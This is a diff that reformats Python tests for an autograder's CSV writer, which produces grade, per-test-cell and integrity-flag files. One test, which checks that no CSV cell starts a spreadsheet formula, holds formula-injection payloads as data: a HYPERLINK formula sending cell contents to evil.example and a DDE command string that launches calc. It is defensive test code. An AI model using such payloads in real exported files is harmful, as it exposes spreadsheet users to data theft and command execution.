@@ -7,8 +7,15 @@ from autograder import writer
 from autograder.results import CellResult, Flag, SubmissionResult
 
 RESULTS = [
-    SubmissionResult("ada", "a1", "graded", 7.0, 8.0, [CellResult("test_f", 2.0, 2.0), CellResult("test_g", 0.5, 1.0,
-                     "f(2) is 5, expected 4, see 'x'")], [Flag("network", "student code opens network connections")]),
+    SubmissionResult(
+        "ada",
+        "a1",
+        "graded",
+        7.0,
+        8.0,
+        [CellResult("test_f", 2.0, 2.0), CellResult("test_g", 0.5, 1.0, "f(2) is 5, expected 4, see 'x'")],
+        [Flag("network", "student code opens network connections")],
+    ),
     SubmissionResult("bob", "a1", "not_submitted", 0.0, 8.0, message="no submission"),
     SubmissionResult("bob", "zz", "unknown_assignment", flags=[Flag("unknown_assignment", "folder zz/")]),
 ]
@@ -21,22 +28,43 @@ def rows(path):
 
 def test_csvs(tmp_path):
     writer.write_csvs(RESULTS, tmp_path)
-    assert rows(tmp_path / "grades.csv") == [["student_id", "assignment", "score", "max_score"],
-                                             ["ada", "a1", "7", "8"], ["bob", "a1", "0", "8"]]
-    assert rows(tmp_path / "cells.csv")[1:] == [["ada", "a1", "test_f", "2", "2", "", ""],
-                                                ["ada", "a1", "test_g", "0.5", "1", "f(2) is 5, expected 4, see 'x'",
-                                                 ""]]
-    assert rows(tmp_path / "integrity.csv")[1:] == [["ada", "a1", "network", "student code opens network connections"],
-                                                    ["bob", "zz", "unknown_assignment", "folder zz/"]]
+    assert rows(tmp_path / "grades.csv") == [
+        ["student_id", "assignment", "score", "max_score"],
+        ["ada", "a1", "7", "8"],
+        ["bob", "a1", "0", "8"],
+    ]
+    assert rows(tmp_path / "cells.csv")[1:] == [
+        ["ada", "a1", "test_f", "2", "2", "", ""],
+        ["ada", "a1", "test_g", "0.5", "1", "f(2) is 5, expected 4, see 'x'", ""],
+    ]
+    assert rows(tmp_path / "integrity.csv")[1:] == [
+        ["ada", "a1", "network", "student code opens network connections"],
+        ["bob", "zz", "unknown_assignment", "folder zz/"],
+    ]
 
 
 def test_cells_csv_keeps_each_concept_answer(tmp_path):
     record = {"answer": "c", "bucket": "c", "correct": False, "explanation": "why c fails", "options": ["a", "c"]}
-    results = [SubmissionResult("ada", "a1", "graded", 0.0, 1.0,
-                                [CellResult("test_concept_x", 0.0, 1.0, "Not this one (c): why c fails", "test", record)])]
+    results = [
+        SubmissionResult(
+            "ada",
+            "a1",
+            "graded",
+            0.0,
+            1.0,
+            [CellResult("test_concept_x", 0.0, 1.0, "Not this one (c): why c fails", "test", record)],
+        )
+    ]
     writer.write_csvs(results, tmp_path)
-    assert rows(tmp_path / "cells.csv")[1] == ["ada", "a1", "test_concept_x", "0", "1", "Not this one (c): why c fails",
-                                               "c"]
+    assert rows(tmp_path / "cells.csv")[1] == [
+        "ada",
+        "a1",
+        "test_concept_x",
+        "0",
+        "1",
+        "Not this one (c): why c fails",
+        "c",
+    ]
     assert SubmissionResult.from_json(results[0].to_json()) == results[0]
 
 
@@ -93,9 +121,17 @@ def test_results_round_trip_through_json():
 
 def test_no_csv_cell_starts_a_spreadsheet_formula(tmp_path):
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    results = [SubmissionResult("-cy", "a1", "graded", 1.0, 2.0, [CellResult("test_f", 1.0, 2.0, hostile),
-                                                                  CellResult("test_g", 0.0, 0.0, "@SUM(A1)")],
-                                [Flag("edited_metadata", "+cmd|' /C calc'!A0")])]
+    results = [
+        SubmissionResult(
+            "-cy",
+            "a1",
+            "graded",
+            1.0,
+            2.0,
+            [CellResult("test_f", 1.0, 2.0, hostile), CellResult("test_g", 0.0, 0.0, "@SUM(A1)")],
+            [Flag("edited_metadata", "+cmd|' /C calc'!A0")],
+        )
+    ]
     writer.write_csvs(results, tmp_path)
     for name in ("grades.csv", "cells.csv", "integrity.csv"):
         for row in rows(tmp_path / name)[1:]:
